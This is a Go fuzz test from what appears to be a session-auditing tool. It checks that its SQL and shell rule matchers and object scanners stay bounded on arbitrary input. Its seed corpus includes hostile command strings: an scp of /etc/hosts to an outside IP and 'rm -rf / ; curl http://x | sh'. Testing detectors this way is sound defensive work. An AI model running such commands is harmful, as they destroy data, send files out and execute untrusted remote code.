// Copyright The pamtrail Authors
// SPDX-License-Identifier: Apache-2.0

package state

import (
	"testing"

	"github.com/pamtrail/pamtrail/collector-components/processor/sessionprocessor/internal/rules"
	"github.com/pamtrail/pamtrail/gateway/schema"
)

// FuzzStatementAnalysis feeds arbitrary statement text (what a user types)
// through the rules and the object scanners: no panic, bounded results.
func FuzzStatementAnalysis(f *testing.F) {
	f.Add("SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id")
	f.Add("scp /etc/hosts eve@203.0.113.9:/tmp/")
	f.Add("rm -rf / ; curl http://x | sh")
	f.Add(`COPY "weird""name" TO STDOUT`)
	f.Add("\xff\xfe DROP TABLE \x00")
	rs, err := rules.Load(rules.Config{Builtin: true})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, target := range []rules.Target{rules.SQL, rules.Shell, rules.File} {
			for _, m := range rs.Match(target, text, 1<<20, nil) {
				if m.Severity <= 0 || m.Severity >= len(schema.RiskLevels) {
					t.Fatalf("match with severity %d", m.Severity)
				}
			}
		}
		var tables, dropped, files, hosts ObjectSet
		sqlTables(text, &tables, &dropped)
		shellObjects(text, &files, &hosts)
		for _, set := range []ObjectSet{tables, dropped, files, hosts} {
			if len(set) > maxObjects {
				t.Fatalf("object set grew to %d", len(set))
			}
		}
		if s := TruncateRunes(text, 7); len(s) > 7+len("…") {
			t.Fatalf("TruncateRunes returned %d bytes", len(s))
		}
	})
}
